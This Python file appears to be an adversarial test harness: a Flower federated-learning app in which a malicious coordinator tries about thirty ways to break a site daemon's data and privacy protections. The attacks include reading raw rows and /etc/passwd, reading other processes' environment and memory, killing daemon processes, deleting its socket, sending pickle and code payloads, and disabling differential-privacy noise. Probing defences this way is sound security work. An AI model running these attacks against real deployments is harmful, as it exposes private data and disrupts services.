"""A Flower app by which a malicious coordinator tries to get at a site's rows: its ClientApp, and what sends it.

The ClientApp runs at the site, as the SuperNode's user. It says what it has got by each way, or why it got nothing;
what it says is all that the coordinator has in the end.
"""

import base64
import json
import os
import pickle
import signal
import socket
import struct
import time
from contextlib import suppress
from hashlib import sha256
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def query(message, context):
    site = Path(str(context.node_config["site-socket"])).parent.parent
    asked = json.loads(message.content["asked"]["json"])
    said = {name: attempt(way, site, asked) for name, way in WAYS.items()}
    return Message(RecordDict({"said": ConfigRecord({"json": json.dumps(said)})}), reply_to=message)


@server.main()
def main(grid, context):
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.5)
    content = RecordDict({"asked": ConfigRecord({"json": Path(str(context.run_config["asked"])).read_text()})})
    (reply,) = grid.send_and_receive([Message(content, nodes[0], "query", ttl=300.0)], timeout=300)
    Path(str(context.run_config["out"])).write_text(str(reply.content["said"]["json"]))


def attempt(way, site, asked):
    try:
        return f"GOT {way(site, asked)!r}"
    except BaseException as error:
        return f"{type(error).__name__}: {error}"


def read(name):
    return lambda site, asked: (site / name).read_text()


def write(name):
    def way(site, asked):
        with (site / name).open("a") as file:
            return file.write("\n")

    return way


def daemons():
    """The processes of other users: the daemon, its Ray, its trainers."""
    found = []
    for process in Path("/proc").iterdir():
        if process.name.isdigit() and process.stat().st_uid != os.getuid():
            command = (process / "cmdline").read_bytes()
            if b"deploy.cli\0site\0run" in command or b"TrainerProcess" in command:
                found.append(process)
    assert found, "there is no daemon"
    return found


def look(what):
    def way(site, asked):
        (file, *_) = [process / what for process in daemons()]
        return list(file.iterdir()) if file.is_dir() else file.read_bytes()[:1000]

    return way


def memory(site, asked):
    (process, *_) = daemons()
    with (process / "mem").open("rb") as file:
        return file.read(1)


def kill(site, asked):
    for process in daemons():
        os.kill(int(process.name), signal.SIGKILL)


def socket_file(site, asked):
    os.unlink(site / "run/site.sock")


def frame(kind, header, tensors=None):
    content = json.dumps({"kind": kind, "header": header, "tensors": tensors or {}}).encode()
    return struct.pack(">4sHI", b"FLSD", 1, len(content)) + content


def talk(site, data):
    """Send bytes to the daemon, and return the headers of its answers."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(120)
        connection.connect(str(site / "run/site.sock"))
        connection.sendall(data)
        received = b""
        with suppress(ConnectionResetError):  # it has answered, and not read all that it was sent
            while part := connection.recv(1 << 16):
                received += part
    assert received, "no answer"
    answers = []
    while received:
        length = struct.unpack(">4sHI", received[:10])[2]
        answer = json.loads(received[10 : 10 + length])
        sizes = [8 if dtype == "float64" else 4 for group in answer["tensors"].values() for _, dtype, _ in group]
        shapes = [shape for group in answer["tensors"].values() for _, _, shape in group]
        for position, shape in enumerate(shapes):
            for number in shape:
                sizes[position] *= number
        received = received[10 + length + sum(sizes) :]
        answers.append({"kind": answer["kind"], **answer["header"], "bytes": sum(sizes)})
    return answers


def refused(answers):
    """Raise what the daemon said, where it refused."""
    for answer in answers:
        reason = answer.get("reason") or next((one for one in answer.get("reasons", []) if one), "")
        if reason:
            raise RuntimeError(reason)
    return answers


def join(**changes):
    def way(site, asked):
        header = {**asked["join"], "flat": json.dumps({**asked["flat"], **changes})}
        return refused(talk(site, frame("join", header)))

    return way


def joined(site, asked):
    """Join as an honest coordinator would, so that the next question finds a job."""
    return refused(talk(site, frame("join", {**asked["join"], "flat": json.dumps(asked["flat"])})))


def instruct(kind, **changes):
    def way(site, asked):
        joined(site, asked)
        numbers = base64.b64decode(asked["numbers"])
        return refused(talk(site, frame(kind, {**asked["instruction"], **changes}, asked["tensors"]) + numbers))

    return way


def less_noise(site, asked):
    """Join with nearly no noise, which no budget is said for, and have it train."""
    flat = {**asked["flat"], "privacy.noise-multiplier": 1e-6, "privacy.epsilon": 0.0}
    text = json.dumps([asked["join"]["site"], asked["join"]["client"], asked["join"]["clients"], flat], sort_keys=True)
    changed = {**asked, "flat": flat, "instruction": {**asked["instruction"], "job": sha256(text.encode()).hexdigest()}}
    return instruct("train")(site, changed)


def send(data):
    return lambda site, asked: refused(talk(site, data))


NO_PRIVACY = {
    "privacy.mode": "none",
    "privacy.noise-multiplier": 0.0,
    "privacy.epsilon": 0.0,
    "privacy.delta": 0.0,
    "privacy.client-size": 0,
}
WAYS = {
    "the rows": read("data.csv"),
    "the ledger": read("state/ledger.jsonl"),
    "the log": read("state/released.jsonl"),
    "the job": read("state/job.json"),
    "its own limits": write("site.toml"),
    "another ledger": write("state/ledger.jsonl"),
    "environment": look("environ"),
    "open files": look("fd"),
    "folder of the process": look("cwd"),
    "memory": memory,
    "kill": kill,
    "another socket": socket_file,
    "labels": send(frame("labels", {})),
    "code": send(frame("train", {"code": "import os"})),
    "pickle": send(pickle.dumps({"kind": "train"}) * 4),
    "privacy off": join(**NO_PRIVACY),
    "less noise": less_noise,
    "more budget": join(**{"privacy.epsilon": 1e6}),
    "another delta": join(**{"privacy.delta": 0.5}),
    "more steps": join(**{"train.local-steps": 10**6}),
    "another model": join(**{"model.name": "bert-base-uncased"}),
    "a model of a path": join(**{"model.name": "/etc"}),
    "another file": join(**{"data.name": "file", "data.path": "/etc/passwd"}),
    "plug-ins": join(**{"run.plugins": "os"}),
    "a client number": join(**{"privacy.client-size": 1}),
    "metrics": instruct("evaluate"),
    "other tensors": instruct("train", kinds=["A", "B", "head", "base"], roles=["shared"] * 4),
    "another client": instruct("train", clients=[5]),
    "another job": instruct("train", job="0" * 64),
    "an honest round": instruct("train"),
}
